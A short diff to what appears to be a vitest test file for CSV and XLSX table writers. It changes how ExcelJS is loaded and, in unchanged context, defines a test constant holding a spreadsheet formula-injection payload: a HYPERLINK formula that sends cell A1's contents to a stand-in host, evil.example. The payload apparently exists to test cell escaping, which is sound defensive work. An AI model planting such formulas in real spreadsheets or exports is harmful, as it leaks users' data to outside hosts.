@@ -6,8 +6,10 @@ import { join, relative } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { writeWorkbook } from '../reports/report-output.js';
 import { escapeCell } from './escape.js';
-import ExcelJS from './exceljs.js';
+import { loadExcelJS } from './exceljs.js';
 import { writeCsv, writeXlsx } from './table-writer.js';
+
+const ExcelJS = await loadExcelJS();
 
 const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
 const HEADERS = ['姓名', '金额（元）', '退费（分）', '备注'];
